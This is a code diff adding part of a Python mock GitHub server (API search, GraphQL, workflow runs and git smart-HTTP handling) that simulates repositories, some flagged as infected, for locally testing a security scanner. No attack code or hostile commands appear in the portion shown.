+        repo = self._repo(repo)
+        workflow = self._workflow(repo, workflow)
+        status = query.get("status")
+        runs = [
+            {"id": run["id"], "workflow_id": run["workflow_id"], "status": run["status"], "conclusion": run["conclusion"]}
+            for run in repo.runs
+            if run["workflow_id"] == workflow["id"] and (not status or run["status"] == status)
+        ]
+        return 200, {"total_count": len(runs), "workflow_runs": runs[:int(query.get("per_page", 30))]}
+
+    def _api_cancel_run(self, user, payload, query, repo, run):
+        repo = self._writable(user, repo)
+        for entry in repo.runs:
+            if entry["id"] == int(run):
+                if entry["status"] == "completed":
+                    raise ApiError(409, "Cannot cancel a workflow run that is completed.")
+                entry.update(status="completed", conclusion="cancelled")
+                return 202, {}
+        raise ApiError(404, "Not Found")
+
+    def _api_search_code(self, user, payload, query):
+        """Code Search：支持 in:file、path:、user:/org:/repo:、extension:、size: 限定条件；不索引 Fork"""
+        terms, qualifiers = [], defaultdict(list)
+        for token in re.findall(r'"[^"]*"|\S+', query.get("q", "")):
+            key, sep, value = token.partition(":")
+            if sep and key in ("in", "path", "user", "org", "repo", "extension", "size"):
+                qualifiers[key].append(value.lower())
+            else:
+                terms.append(token.strip('"').lower())
+        page, per_page = int(query.get("page", 1)), min(int(query.get("per_page", 30)), 100)
+        if (page - 1) * per_page >= self.SEARCH_RESULT_CAP:
+            raise ApiError(422, "Cannot access beyond the first 1000 results, or the page number is too large.")
+
+        owners = set(qualifiers["user"]) | set(qualifiers["org"])
+        repos = set(qualifiers["repo"])
+        size_range = None
+        if qualifiers["size"]:
+            low, _, high = qualifiers["size"][0].partition("..")
+            size_range = (int(low or 0), int(high or 10 ** 9))
+
+        items = []
+        for repo in self.searchable:
+            if (repos and repo.full_name.lower() not in repos) or (not repos and owners and repo.owner.lower() not in owners):
+                continue
+            for name, sha, size, text in self._indexed_files(repo):
+                if qualifiers["extension"] and name.rsplit(".", 1)[-1].lower() not in qualifiers["extension"]:
+                    continue
+                if size_range and not size_range[0] <= size <= size_range[1]:
+                    continue
+                if all(term in text for term in terms):
+                    items.append({
+                        "name": name,
+                        "path": f"{WORKFLOWS_PATH}/{name}",
+                        "sha": sha,
+                        "repository": {"full_name": repo.full_name, "fork": repo.fork},
+                        "score": 1.0,
+                    })
+        return 200, {
+            "total_count": len(items),
+            "incomplete_results": False,
+            "items": items[(page - 1) * per_page:page * per_page],
+        }
+
+    def _indexed_files(self, repo: MockRepo) -> List[Tuple[str, str, int, str]]:
+        """仓库默认分支 workflow 文件的搜索索引（分支变化后重建）"""
+        head, files = self.search_index.get(repo.full_name, ("", []))
+        if head != repo.head:
+            with self.world.lock:
+                head = repo.head
+                files = [
+                    (name, sha, size, self.world.objects[sha][1].decode(errors="ignore").lower())
+                    for name, sha, size in self.world.workflow_files(repo)
+                ]
+            self.search_index[repo.full_name] = (head, files)
+        return files
+
+    # GraphQL：按扫描器实际发送的三类查询匹配，不实现通用解析器
+    GRAPHQL_ALIAS = re.compile(r"(\w+): repository\(owner: \$(\w+), name: \$(\w+)\)")
+
+    def _api_graphql(self, user, payload, query):
+        text = payload.get("query", "")
+        variables = payload.get("variables") or {}
+        errors = []
+        if "viewer" in text:
+            offset = int(variables.get("cursor") or 0)
+            orgs = self.world.memberships[user]
+            page = orgs[offset:offset + 100]
+            data = {"viewer": {"login": user, "organizations": {
+                "nodes": [{"login": org} for org in page],
+                "pageInfo": {"hasNextPage": offset + 100 < len(orgs), "endCursor": str(offset + 100)},
+            }}}
+        elif "repositoryOwner" in text:
+            login = variables.get("login", "").lower()
+            offset = int(variables.get("cursor") or 0)
+            with self.world.lock:
+                owned = sorted(
+                    (repo for repo in self.world.repos.values() if repo.owner.lower() == login),
+                    key=lambda repo: repo.name
+                )
+            if login not in {owner.lower() for owner in [*self.world.users, *self.world.orgs]}:
+                data = {"repositoryOwner": None}
+                errors.append({"type": "NOT_FOUND", "message": f"Could not resolve to a RepositoryOwner with the login of '{login}'."})
+            else:
+                data = {"repositoryOwner": {"repositories": {
+                    "nodes": [self._repository_node(repo) for repo in owned[offset:offset + 50]],
+                    "pageInfo": {"hasNextPage": offset + 50 < len(owned), "endCursor": str(offset + 50)},
+                }}}
+        else:
+            data = {}
+            for alias, owner, name in self.GRAPHQL_ALIAS.findall(text):
+                full_name = f"{variables.get(owner, '')}/{variables.get(name, '')}"
+                repo = self.world.repo(full_name)
+                data[alias] = self._repository_node(repo) if repo else None
+                if not repo:
+                    errors.append({"type": "NOT_FOUND", "path": [alias],
+                                   "message": f"Could not resolve to a Repository with the name '{full_name}'."})
+        response = {"data": data}
+        if errors:
+            response["errors"] = errors
+        return 200, response
+
+    def _repository_node(self, repo: MockRepo) -> Dict:
+        with self.world.lock:
+            commit = self.world.commits[repo.head]
+            workflows = self.world.lookup(commit["tree"], WORKFLOWS_PATH)
+            entries = self.world.trees[workflows[1]] if workflows and workflows[0] == "40000" else None
+        return {
+            "nameWithOwner": repo.full_name,
+            "isArchived": repo.archived,
+            "isFork": repo.fork,
+            "parent": {"nameWithOwner": repo.parent} if repo.parent else None,
+            "pushedAt": repo.pushed_at,
+            "defaultBranchRef": {
+                "name": repo.default_branch,
+                "target": {"oid": repo.head, "tree": {"oid": commit["tree"]}},
+            },
+            "workflows": None if entries is None else {
+                "oid": workflows[1],
+                "entries": [
+                    {"name": name, "oid": sha, "type": "tree" if mode == "40000" else "blob"}
+                    for name, (mode, sha) in sorted(entries.items())
+                ],
+            },
+        }
+
+    # ---- git smart-HTTP ----
+
+    GIT_PATH = re.compile(r"^/(?P<owner>[^/]+)/(?P<name>[^/]+?)\.git/(?P<service>info/refs|git-upload-pack|git-receive-pack)$")
+
+    def handle_git(self, method: str, path: str, query_string: str, headers, body: bytes) -> Tuple[int, Dict, bytes]:
+        """通过 git http-backend 处理克隆、抓取和推送"""
+        match = self.GIT_PATH.match(path)
+        repo = self.world.repo(f"{match.group('owner')}/{match.group('name')}") if match else None
+        if not repo:
+            return 404, {"Content-Type": "text/plain"}, b"Repository not found\n"
+        service = match.group("service")
+        if service == "info/refs":
+            service = parse_qs(query_string).get("service", ["info/refs"])[0]
+        self.record(git=service)
+
+        with repo.lock:
+            repo_path = self.world.materialize(repo, self.git_root)
+            env = {
+                "PATH": "/usr/local/bin:/usr/bin:/bin",
+                "GIT_PROJECT_ROOT": str(self.git_root),
+                "GIT_HTTP_EXPORT_ALL": "1",
+                "REQUEST_METHOD": method,
+                "PATH_INFO": path,
+                "QUERY_STRING": query_string,
+                "CONTENT_TYPE": headers.get("Content-Type", ""),
+                "CONTENT_LENGTH": str(len(body)),
+                "REMOTE_USER": "bench",
+                "REMOTE_ADDR": "127.0.0.1",
+                "GIT_PROTOCOL": headers.get("Git-Protocol", ""),
+                "HTTP_CONTENT_ENCODING": headers.get("Content-Encoding", ""),
+                # 允许推送，并支持 partial clone（--filter=blob:none）
+                "GIT_CONFIG_COUNT": "2",
+                "GIT_CONFIG_KEY_0": "http.receivepack",
+                "GIT_CONFIG_VALUE_0": "true",
+                "GIT_CONFIG_KEY_1": "uploadpack.allowFilter",
+                "GIT_CONFIG_VALUE_1": "true",
+            }
+            result = subprocess.run(["git", "http-backend"], input=body, env=env, capture_output=True)
+            if service == "git-receive-pack" and method == "POST":
+                self.world.import_push(repo, repo_path)
+
+        header_block, _, payload = result.stdout.partition(b"\r\n\r\n")
+        status = 200
+        response_headers = {}
+        for line in header_block.decode(errors="replace").split("\r\n"):
+            key, _, value = line.partition(":")
+            if key.lower() == "status":
+                status = int(value.split()[0])
+            elif key:
+                response_headers[key] = value.strip()
+        self.record(git_bytes=len(payload))
+        return status, response_headers, payload
+
+
+class MockRequestHandler(BaseHTTPRequestHandler):
+    """HTTP/1.1 Keep-Alive 请求处理（每个连接一个线程）"""
+
+    protocol_version = "HTTP/1.1"
+    server_state: MockGitHub = None
+
+    def log_message(self, format, *args):
+        pass
+
+    def _read_body(self) -> bytes:
+        if self.headers.get("Transfer-Encoding", "").lower() == "chunked":
+            chunks = []
+            while True:
+                size = int(self.rfile.readline().split(b";")[0].strip() or b"0", 16)
+                if size == 0:
+                    self.rfile.readline()
+                    break
+                chunks.append(self.rfile.read(size))
+                self.rfile.readline()
+            return b"".join(chunks)
+        return self.rfile.read(int(self.headers.get("Content-Length") or 0))
+
+    def _dispatch(self, method: str) -> None:
+        state = self.server_state
+        body = self._read_body()
+        parts = urlsplit(self.path)
+        state.delay()
+        if parts.path.startswith("/api/") or parts.path == "/api":
+            if self.headers.get("Content-Encoding") == "gzip":
+                body = gzip.decompress(body)
+            query = {key: values[-1] for key, values in parse_qs(parts.query).items()}
+            status, headers, payload = state.handle_api(method, parts.path[4:] or "/", query, self.headers, body)
+        else:
+            status, headers, payload = state.handle_git(method, parts.path, parts.query, self.headers, body)
+        state.record(by_status=status)
+
+        self.send_response(status)
+        for key, value in headers.items():
+            self.send_header(key, value)
+        self.send_header("Content-Length", str(len(payload)))
+        self.end_headers()
+        if payload and method != "HEAD":
+            self.wfile.write(payload)
+
+    def do_GET(self):
+        self._dispatch("GET")
+
+    def do_POST(self):
+        self._dispatch("POST")
+
+    def do_PUT(self):
+        self._dispatch("PUT")
+
+    def do_PATCH(self):
+        self._dispatch("PATCH")
+
+    def do_DELETE(self):
+        self._dispatch("DELETE")
+
+
+def main():
+    """独立运行模拟服务器（用于手动调试扫描器）"""
+    parser = argparse.ArgumentParser(description="Security Auto Scan - 本地模拟 GitHub 服务器")
+    parser.add_argument("--users", type=int, default=1, help="用户数量（每个用户一个 Token）")
+    parser.add_argument("--orgs", type=int, default=2, help="组织数量")
+    parser.add_argument("--repos", type=int, default=100, help="仓库数量")
+    parser.add_argument("--infection-rate", type=float, default=0.05, help="受感染仓库比例")
+    parser.add_argument("--fork-rate", type=float, default=0.1, help="Fork 仓库比例")
+    parser.add_argument("--latency-ms", type=float, default=0.0, help="每个请求的固定延迟（毫秒）")
+    parser.add_argument("--port", type=int, default=8765, help="监听端口")
+    parser.add_argument("--seed", type=int, default=1, help="随机种子")
+    args = parser.parse_args()
+
+    world = MockWorld(
+        users=args.users, orgs=args.orgs, repos=args.repos, infection_rate=args.infection_rate,
+        fork_rate=args.fork_rate, seed=args.seed
+    )
+    server = MockGitHub(world, latency_ms=args.latency_ms, port=args.port)
+    print(f"模拟 GitHub: {server.url}（{len(world.repos)} 个仓库，{len(world.infected_repos())} 个受感染）")
+    print(f"  GITHUB_API_URL={server.api_url}")
+    print(f"  GITHUB_SERVER_URL={server.url}")
+    print(f"  GITHUB_TOKEN={server.token}")
+    server.start()
+    try:
+        server.thread.join()
+    except KeyboardInterrupt:
+        server.stop()
+
+
+if __name__ == "__main__":
+    main()